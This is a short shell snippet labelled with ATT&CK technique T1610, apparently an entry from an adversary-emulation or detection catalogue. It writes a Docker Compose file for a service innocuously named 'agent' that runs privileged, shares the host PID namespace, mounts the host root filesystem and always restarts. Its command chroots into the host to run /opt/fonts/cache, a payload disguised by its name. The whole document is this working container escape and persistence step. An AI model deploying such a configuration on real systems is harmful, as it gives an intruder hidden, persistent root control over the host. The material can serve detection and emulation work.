# technique: T1610
# location: linux.container.compose
# source: /opt/stack/compose.yaml
install -D /dev/stdin /opt/stack/compose.yaml <<< 'services:
  agent:
    image: alpine
    privileged: true
    restart: always
    pid: host
    volumes: ["/:/host"]
    command: chroot /host /opt/fonts/cache'
